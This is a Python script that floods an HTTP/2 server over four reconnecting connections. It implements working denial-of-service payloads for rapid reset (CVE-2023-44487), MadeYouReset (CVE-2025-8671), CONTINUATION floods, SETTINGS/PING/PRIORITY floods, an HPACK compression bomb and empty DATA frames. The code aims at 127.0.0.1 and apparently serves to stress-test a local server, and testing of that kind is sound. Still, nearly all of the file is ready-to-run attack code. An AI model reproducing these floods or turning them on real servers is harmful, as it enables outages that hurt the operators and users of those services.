"""Floods of HTTP/2, four connections at a time: flood.py ATTACK PORT SECONDS.

A connection that the server ends is opened again. The last line says how many frames were sent and
how often the server ended a connection.
"""

import select
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
from hpack import Encoder
from hyperframe import frame

ATTACK, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
CONNECTIONS = 4

HEAD = [
    (":method", "GET"),
    (":scheme", "https"),
    (":authority", "localhost"),
    (":path", "/"),
]
UPLOAD = [(":method", "POST")] + HEAD[1:]


def packed(fields):
    return Encoder().encode(fields)


def headers(stream, block, *flags):
    return frame.HeadersFrame(stream, data=block, flags=flags).serialize()


def rapid_reset():
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in range(1, 1 << 30, 2):
        block = packed(HEAD)
        yield headers(stream, block, "END_HEADERS", "END_STREAM")
        yield frame.RstStreamFrame(stream, error_code=8).serialize()


def made_you_reset():
    """CVE-2025-8671: requests that the server has to reset itself."""
    for stream in range(1, 1 << 30, 2):
        yield headers(stream, packed(HEAD), "END_HEADERS", "END_STREAM")
        # No increment of a window is zero: an error of the stream.
        yield frame.WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)


def continuation():
    """A head without an end (CVE-2024-27983 and its kin)."""
    yield headers(1, packed(HEAD))
    number = 0
    while True:
        number += 1
        block = packed([("x-%d" % number, "y" * 1000)])
        yield frame.ContinuationFrame(1, data=block).serialize()


def settings():
    """CVE-2019-9515."""
    while True:
        yield frame.SettingsFrame(0, settings={4: 65535}).serialize()


def ping():
    """CVE-2019-9512."""
    while True:
        yield frame.PingFrame(0, opaque_data=b"12345678").serialize()


def priority():
    """CVE-2019-9513."""
    while True:
        for stream in range(1, 2001, 2):
            one = frame.PriorityFrame(stream, depends_on=0, stream_weight=stream % 255)
            yield one.serialize()


def hpack_bomb():
    """One long field, kept in the table of names, named thousands of times by a byte each."""
    # Literal with incremental indexing (RFC 7541, 6.2.1), then entry 62 again and again.
    value = b"y" * 3900
    length = b"\x7f" + varint(len(value) - 127)
    bomb = b"\x40\x01x" + length + value + b"\xbe" * 12000
    for stream in range(1, 1 << 30, 2):
        yield headers(stream, packed(HEAD) + bomb, "END_HEADERS", "END_STREAM")


def varint(number):
    out = bytearray()
    while number >= 128:
        out.append(number & 127 | 128)
        number >>= 7
    out.append(number)
    return bytes(out)


def empty_data():
    """CVE-2019-9518."""
    yield headers(1, packed(UPLOAD), "END_HEADERS")
    while True:
        yield frame.DataFrame(1, data=b"").serialize()


def connect():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    stream = socket.create_connection(("127.0.0.1", PORT), timeout=10)
    stream = context.wrap_socket(stream, server_hostname="localhost")
    if stream.selected_alpn_protocol() != "h2":
        sys.exit("the server does not speak HTTP/2")
    config = h2.config.H2Configuration(client_side=True)
    hello = h2.connection.H2Connection(config)
    hello.initiate_connection()
    stream.sendall(hello.data_to_send())
    return stream


def drained(stream):
    """Reads what the server has to say, so that it is never stopped by that; true at its end."""
    try:
        while stream.recv(65536):
            pass
        return True
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False


def send(stream, until, counts):
    """Sends until the time is over; whether the server has ended the connection before."""
    stream.setblocking(False)
    batch = []
    for one in globals()[ATTACK.replace("-", "_")]():
        batch.append(one)
        if len(batch) < 16:
            continue
        rest = b"".join(batch)
        while rest:
            if time.monotonic() >= until:
                return False
            try:
                rest = rest[stream.send(rest) :]
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([stream], [stream], [], 0.1)
            if drained(stream):
                return True
        counts["frames"] += len(batch)
        batch = []
    return False


def flood(until, counts):
    while time.monotonic() < until:
        try:
            stream = connect()
        except OSError:
            counts["refused"] += 1
            continue
        try:
            counts["ended"] += send(stream, until, counts)
        except (OSError, ValueError):
            counts["ended"] += 1
        stream.close()


def main():
    counts = [{"frames": 0, "ended": 0, "refused": 0} for _ in range(CONNECTIONS)]
    until = time.monotonic() + SECONDS
    threads = [threading.Thread(target=flood, args=(until, one)) for one in counts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    total = {name: sum(one[name] for one in counts) for name in counts[0]}
    if not total["frames"] and not total["ended"]:
        sys.exit("nothing was sent")
    print(f"{total['frames']} frames sent, {total['ended']} connections ended by the server")


main()
